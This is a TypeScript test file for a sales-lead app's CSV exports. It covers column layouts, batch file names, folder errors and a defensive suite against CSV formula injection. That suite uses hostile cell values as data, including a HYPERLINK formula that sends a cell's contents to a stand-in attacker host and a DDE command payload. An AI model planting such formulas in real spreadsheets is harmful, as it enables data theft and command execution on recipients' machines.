import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import {
  batchFileName,
  batchKey,
  leadRecordsCsv,
  outboxCsv,
  spreadsheetSafe,
  type OutboxRow,
} from '#core/outbox/index';
import { folderProblem } from '#core/outbox/folder';

/** The folder destination's files: what each kind's CSV looks like, what a file is called, what a failure says. */
const rowsOf = (csv: string) => parse(csv, { columns: true, bom: true }) as Record<string, string>[];
const headerOf = (csv: string) => (parse(csv, { to_line: 1 }) as string[][])[0];
/** The columns every kind ends with: who and what made the record. */
const sourceColumns = ['Release Version', 'Device Id', 'Rep', 'Booth', 'Team', 'Region', 'App Version'];
/** Those columns but the release for a record from a device that is not enrolled. */
const noSource = { 'Device Id': '', Rep: '', Booth: '', Team: '', Region: '', 'App Version': '' };
/** The one row of a file of one record of this kind. */
const onlyRow = (kind: string, idempotencyKey: string, payload: Record<string, unknown>) =>
  rowsOf(outboxCsv(kind, [{ idempotencyKey, payload }]))[0]!;

describe('outboxCsv', () => {
  it('writes leads in the columns of the leads export, opened and readable by importers', () => {
    const csv = outboxCsv('lead', [
      {
        idempotencyKey: 'lead:7f3c',
        payload: {
          leadId: '7f3c',
          capturedAt: '2026-11-23T10:15:00.000Z',
          consentVersion: 'v3',
          rating: 'hot',
          interests: ['Filtration', 'Service'],
          viewedItems: ['AquaCore 500'],
          firstName: 'Ana',
          lastName: 'Lima',
          email: 'ana.lima@marston-brewery.example',
          company: 'Marston Brewery',
          role: 'Head brewer',
          phone: '0161 496 0000',
          note: 'Says "call me", and soon',
          eventName: 'Brau Beviale 2026',
          staffNote: '=Budget approved',
          qualifiedAt: '2026-11-23T11:00:00.000Z',
        },
        source: {
          deviceId: 'dev-1',
          rep: null,
          booth: 'Hanover Fair',
          team: 'Events',
          region: 'DACH',
          appVersion: '3.4.5',
          releaseVersion: 12,
        },
      },
      {
        idempotencyKey: 'lead:7f3c:qualified:2026-11-23T12:00:00.000Z',
        payload: { leadId: '7f3c', rating: 'warm', lastName: 'Lima', update: 'qualification' },
      },
    ]);
    expect(headerOf(csv)).toEqual([
      'First Name',
      'Last Name',
      'Email',
      'Company',
      'Title',
      'Phone',
      'Lead Source',
      'Rating',
      'Description',
      'Consent Version',
      'Captured At',
      'Pitchcase Lead ID',
      'Event',
      'Staff Note',
      'Qualified At',
      'Record Type',
      ...sourceColumns,
    ]);
    expect(rowsOf(csv)).toEqual([
      {
        'First Name': 'Ana',
        'Last Name': 'Lima',
        Email: 'ana.lima@marston-brewery.example',
        Company: 'Marston Brewery',
        Title: 'Head brewer',
        Phone: '0161 496 0000',
        'Lead Source': 'Trade Show',
        Rating: 'Hot',
        Description: 'Says "call me", and soon\nInterests: Filtration, Service\nViewed: AquaCore 500',
        'Consent Version': 'v3',
        'Captured At': '2026-11-23T10:15:00.000Z',
        'Pitchcase Lead ID': '7f3c',
        Event: 'Brau Beviale 2026',
        // Staff typed a formula by accident: spreadsheet-safe like every other cell.
        'Staff Note': "'=Budget approved",
        'Qualified At': '2026-11-23T11:00:00.000Z',
        'Record Type': 'Lead',
        'Release Version': '12',
        'Device Id': 'dev-1',
        Rep: '',
        Booth: 'Hanover Fair',
        Team: 'Events',
        Region: 'DACH',
        'App Version': '3.4.5',
      },
      expect.objectContaining({ 'Pitchcase Lead ID': '7f3c', Rating: 'Warm', 'Record Type': 'Qualification update' }),
    ]);
    // RFC 4180: a quote inside a field is doubled, and the field quoted.
    expect(csv).toContain('"Says ""call me"", and soon');
    // The kiosk's export has the same columns, first: the outbox's file adds who and what made each lead.
    const exported = headerOf(leadRecordsCsv([]))!;
    expect(headerOf(csv)!.slice(0, exported.length)).toEqual(exported);
  });

  it('writes meetings as Task-like rows on the contact and opportunity', () => {
    const csv = outboxCsv('meeting', [
      {
        idempotencyKey: 'meeting:m-1',
        payload: {
          meetingId: 'm-1',
          Subject: 'Meeting with Marston Brewery: trial agreed',
          ActivityDate: '2026-11-23',
          Status: 'Completed',
          WhoId: '003AA000001',
          WhatId: '006AA000002',
          Account: 'Marston Brewery',
          Contact: 'Ana Lima',
          Opportunity: 'Filtration upgrade',
          Outcome: 'trial agreed',
          Description: 'Shown:\nAquaCore 500, p. 3 (42 s)',
          startedAt: '2026-11-23T09:00:00.000Z',
          endedAt: '2026-11-23T09:40:00.000Z',
        },
      },
      {
        idempotencyKey: 'meeting:m-2',
        payload: {
          meetingId: 'm-2',
          Subject: 'Meeting: presented',
          ActivityDate: '2026-11-24',
          WhoId: null,
          WhatId: null,
          Account: null,
        },
      },
    ]);
    expect(headerOf(csv)).toEqual([
      'Subject',
      'ActivityDate',
      'Status',
      'Who Id',
      'What Id',
      'Account',
      'Contact',
      'Opportunity',
      'Outcome',
      'Description',
      'Started At',
      'Ended At',
      'Pitchcase Id',
      ...sourceColumns,
    ]);
    const [first, second] = rowsOf(csv);
    expect(first).toEqual({
      Subject: 'Meeting with Marston Brewery: trial agreed',
      ActivityDate: '2026-11-23',
      Status: 'Completed',
      'Who Id': '003AA000001',
      'What Id': '006AA000002',
      Account: 'Marston Brewery',
      Contact: 'Ana Lima',
      Opportunity: 'Filtration upgrade',
      Outcome: 'trial agreed',
      Description: 'Shown:\nAquaCore 500, p. 3 (42 s)',
      'Started At': '2026-11-23T09:00:00.000Z',
      'Ended At': '2026-11-23T09:40:00.000Z',
      'Pitchcase Id': 'meeting:m-1',
      'Release Version': '',
      ...noSource,
    });
    expect(second).toMatchObject({
      Subject: 'Meeting: presented',
      Status: 'Completed',
      'Who Id': '',
      'What Id': '',
      Account: '',
      'Pitchcase Id': 'meeting:m-2',
    });
  });

  it('writes follow-ups as e-mail Tasks naming the meeting they follow', () => {
    const csv = outboxCsv('followup', [
      {
        idempotencyKey: 'followup:f-1',
        payload: {
          followUpId: 'f-1',
          meetingId: 'm-1',
          To: 'ana.lima@marston-brewery.example',
          Subject: 'What we looked at',
          Body: 'Hello Ana,\n\nthe brochure: https://x',
          ActivityDate: '2026-11-23',
          WhoId: '003AA000001',
          WhatId: null,
        },
      },
    ]);
    expect(headerOf(csv)).toEqual([
      'Subject',
      'ActivityDate',
      'Type',
      'To',
      'Who Id',
      'What Id',
      'Body',
      'Meeting Pitchcase Id',
      'Pitchcase Id',
      ...sourceColumns,
    ]);
    expect(rowsOf(csv)).toEqual([
      {
        Subject: 'What we looked at',
        ActivityDate: '2026-11-23',
        Type: 'Email',
        To: 'ana.lima@marston-brewery.example',
        'Who Id': '003AA000001',
        'What Id': '',
        Body: 'Hello Ana,\n\nthe brochure: https://x',
        'Meeting Pitchcase Id': 'meeting:m-1',
        'Pitchcase Id': 'followup:f-1',
        'Release Version': '',
        ...noSource,
      },
    ]);
  });

  it('writes one row per activity event with stable columns, whatever the event leaves out', () => {
    const csv = outboxCsv('event', [
      {
        idempotencyKey: 'event:e-1',
        payload: {
          id: 'e-1',
          type: 'page.viewed',
          at: '2026-11-23T09:05:00.000Z',
          itemId: 'aquacore-500-brochure',
          page: 3,
          dwellMs: 42000,
          pitchId: 'p-1',
          meetingId: 'm-1',
          releaseVersion: 12,
        },
      },
      {
        idempotencyKey: 'event:e-2',
        payload: {
          id: 'e-2',
          type: 'pitch.presented',
          at: '2026-11-23T09:06:00.000Z',
          itemId: null,
          page: null,
          dwellMs: null,
          pitchId: 'p-1',
          meetingId: null,
          releaseVersion: null,
        },
      },
    ]);
    expect(headerOf(csv)).toEqual([
      'Pitchcase Id',
      'Type',
      'At',
      'Item',
      'Page',
      'Dwell ms',
      'Pitch',
      'Meeting Pitchcase Id',
      ...sourceColumns,
    ]);
    expect(rowsOf(csv)).toEqual([
      {
        'Pitchcase Id': 'event:e-1',
        Type: 'page.viewed',
        At: '2026-11-23T09:05:00.000Z',
        Item: 'aquacore-500-brochure',
        Page: '3',
        'Dwell ms': '42000',
        Pitch: 'p-1',
        'Meeting Pitchcase Id': 'meeting:m-1',
        'Release Version': '12',
        ...noSource,
      },
      {
        'Pitchcase Id': 'event:e-2',
        Type: 'pitch.presented',
        At: '2026-11-23T09:06:00.000Z',
        Item: '',
        Page: '',
        'Dwell ms': '',
        Pitch: 'p-1',
        'Meeting Pitchcase Id': '',
        'Release Version': '',
        ...noSource,
      },
    ]);
  });

  it('has a header even for no records, and refuses a kind it has no shape for', () => {
    expect(outboxCsv('event', []).trim()).toBe(
      'Pitchcase Id,Type,At,Item,Page,Dwell ms,Pitch,Meeting Pitchcase Id,Release Version,Device Id,Rep,Booth,Team,Region,App Version',
    );
    expect(() => outboxCsv('invoice', [])).toThrow('A folder does not take "invoice" records');
  });
});

describe('formula injection', () => {
  it.each([
    ['=HYPERLINK("http://evil.example","click")', `'=HYPERLINK("http://evil.example","click")`],
    ['+1+cmd|" /C calc"!A0', `'+1+cmd|" /C calc"!A0`],
    ['-2+3', `'-2+3`],
    ['@SUM(A1:A9)', `'@SUM(A1:A9)`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
    ['Ana', 'Ana'],
    ['a=b', 'a=b'],
    // Phone numbers reach the importer as typed: digits and separators cannot make a formula.
    ['+44 20 7946 0958', '+44 20 7946 0958'],
    ['+1 (555) 010-2000', '+1 (555) 010-2000'],
    ['-0161', '-0161'],
    ['+44+1', `'+44+1`],
    ['+44 A1', `'+44 A1`],
    ['', ''],
  ])('%j', (value, safe) => {
    expect(spreadsheetSafe(value)).toBe(safe);
  });

  it('guards every text cell a visitor or rep typed, in every kind, and leaves numbers alone', () => {
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
    const lead = onlyRow('lead', 'lead:1', {
      leadId: '1',
      firstName: evil,
      lastName: '@Lima',
      company: '+Expo',
      role: '-x',
      phone: '\t0161',
      note: evil,
    });
    expect(lead).toMatchObject({
      'First Name': `'${evil}`,
      'Last Name': "'@Lima",
      Company: "'+Expo",
      Title: "'-x",
      Phone: "'\t0161",
    });
    // The description starts with the note: guarded as a whole.
    expect(lead.Description!.startsWith(`'${evil}`)).toBe(true);
    const meeting = onlyRow('meeting', 'meeting:1', {
      Subject: evil,
      Account: '=1',
      Contact: '@x',
      Outcome: '+y',
      Description: '-z',
    });
    expect(meeting).toMatchObject({
      Subject: `'${evil}`,
      Account: "'=1",
      Contact: "'@x",
      Outcome: "'+y",
      Description: "'-z",
    });
    const followUp = onlyRow('followup', 'followup:1', { Subject: '=1', To: '@to', Body: evil });
    expect(followUp).toMatchObject({ Subject: "'=1", To: "'@to", Body: `'${evil}` });
    const event = onlyRow('event', 'event:1', { type: 'item.opened', itemId: '=cmd', page: 2, dwellMs: 0 });
    expect(event).toMatchObject({ Item: "'=cmd", Page: '2', 'Dwell ms': '0' });
  });
});

describe('batchFileName', () => {
  const row = (key: string, createdAt: string): OutboxRow => ({
    id: 1,
    kind: 'lead',
    idempotencyKey: key,
    payload: {},
    createdAt,
    attempts: 0,
  });

  it('names a batch by kind, the date of its first record and the start of its batch key', () => {
    const rows = [row('lead:b', '2026-11-24T08:00:00.000Z'), row('lead:a', '2026-11-23T23:59:00.000Z')];
    const key = batchKey(rows);
    const name = batchFileName(
      'lead',
      rows.map((r) => r.createdAt),
      key,
    );
    expect(name).toBe(`pitchcase-lead-2026-11-23-${key.slice(0, 16)}.csv`);
    expect(name).toMatch(/^pitchcase-lead-2026-11-23-[0-9a-f]{16}\.csv$/);
  });

  it('gives the same batch the same name, and another batch another', () => {
    const rows = [row('event:1', '2026-11-23T10:00:00.000Z'), row('event:2', '2026-11-23T10:01:00.000Z')];
    const name = (rs: OutboxRow[]) =>
      batchFileName(
        'event',
        rs.map((r) => r.createdAt),
        batchKey(rs),
      );
    expect(name(rows.map((r) => ({ ...r })))).toBe(name(rows));
    expect(name([...rows, row('event:3', '2026-11-23T10:02:00.000Z')])).not.toBe(name(rows));
  });
});

describe('folderProblem', () => {
  const code = (c: string) => Object.assign(new Error(`${c}: from the system`), { code: c });
  it.each([
    [
      'ENOENT',
      'The folder /mnt/drop does not exist: create it, or connect the network share or let OneDrive/SharePoint sync it',
    ],
    ['EACCES', 'Pitchcase may not write to the folder /mnt/drop (permission denied)'],
    ['EPERM', 'Pitchcase may not write to the folder /mnt/drop (permission denied)'],
    ['EROFS', 'The folder /mnt/drop is read-only'],
    ['ENOSPC', 'The disk of the folder /mnt/drop is full'],
    ['EDQUOT', 'The disk quota of the folder /mnt/drop is used up'],
    ['ENOTDIR', '/mnt/drop is not a folder'],
    ['EIO', 'Could not write to the folder /mnt/drop: EIO: from the system'],
  ])('%s', (c, message) => {
    expect(folderProblem('/mnt/drop', code(c))).toBe(message);
  });
});
